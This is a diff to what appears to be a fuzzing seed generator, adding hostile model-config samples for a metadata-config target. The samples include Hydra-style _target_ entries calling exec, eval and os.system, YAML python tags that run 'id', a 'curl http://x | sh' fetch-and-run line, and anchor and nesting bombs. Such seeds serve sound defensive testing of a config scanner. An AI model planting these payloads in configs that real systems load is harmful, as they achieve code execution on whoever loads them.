@@ -192,6 +192,30 @@ SHARD_INDEX = {
     "nul_after_object": b'{"weight_map":{}}\x00{}',
 }
 
+# Metadata values for metadata_config: a mode byte (0: the bytes are the
+# value; 1: they are wrapped as a JSON string in {"k": ...}) and the value.
+METADATA_CONFIG = {
+    "flextok_exec.json": b'{"model": {"_target_": "builtins.exec", "_args_": ["import os; os.system(\'id\')"]},'
+                         b' "enc": {"_target_": "flextok.model.Encoder", "dim": 512}}',
+    "partial.json": b'{"hook": {"_partial_": true, "_target_": "subprocess.run", "_call_": false}}',
+    "aliases.json": b'[{"_target_": "__builtin__.eval"}, {"_target_": " Posix : System "},'
+                    b' {"class_path": "numpy.load", "allow_pickle": true}, {"_target_": "os.path.join"}]',
+    "nested_string.json": json.dumps({"inner": json.dumps({"cfg": json.dumps({"_target_": "os.system"})})}).encode(),
+    "string_root.json": json.dumps(json.dumps({"_target_": "eval"})).encode(),
+    "interpolations.json": b'{"a": "${oc.env:HOME}", "b": "${eval:1+1}", "c": "${x.y}", "d": "\\\\${oc.env:NO}",'
+                           b' "e": "${ now :%Y}", "_target_": "${a}"}',
+    "payloads.json": b'{"blob": "UEsDBBQAAAAIAAAAIQAAAAAAAAAAAAAAAAA=", "cmd": "curl http://x | sh", "py": "__import__(\'os\')"}',
+    "block.yaml": b"model:\n  _target_: builtins.exec\n  _args_:\n    - print(1)\nlayers:\n  - _target_: torch.nn.ReLU\n"
+                  b"  - {_target_: os.system, _partial_: yes}\n? [complex, key]\n: value\n",
+    "tags.yaml": b"--- !!python/object/apply:os.system [\"id\"]\n---\nx: !!python/name:pickle.loads\n",
+    "anchors.yaml": b"a: &a [x, x, x]\nb: &b [*a, *a, *a]\nc: {_target_: *b}\n",
+    "one_line.yaml": b"_target_: builtins.exec",
+    "deep.json": b"[" * 200 + b"]" * 200,
+    "deep.yaml": b"{a: " * 200,
+    "kohya.json": b'{"10_mychar": {"1girl": 50, "solo": 41}}',
+    "plain.txt": b"Trigger word: mychar, see ${oc.env:HOME}",
+}
+
 
 def params(flags: int, budget: int = 255, tight: bytes = bytes(6), size: int = 0) -> bytes:
     return bytes([flags, budget]) + tight + struct.pack("<Q", size)
@@ -234,6 +258,9 @@ def main() -> None:
     for name, data in sorted(SHARD_INDEX.items()):
         write("shard_index", name, b"\x00" + data, seen)
         write("shard_index", name + ".tight", b"\x01" + data, seen)
+    for name, data in sorted(METADATA_CONFIG.items()):
+        write("metadata_config", name, b"\x00" + data, seen)
+        write("metadata_config", name + ".in_string", b"\x01" + data, seen)
     for target in sorted(seen):
         print(f"{target}: {len(seen[target])} seeds")
 
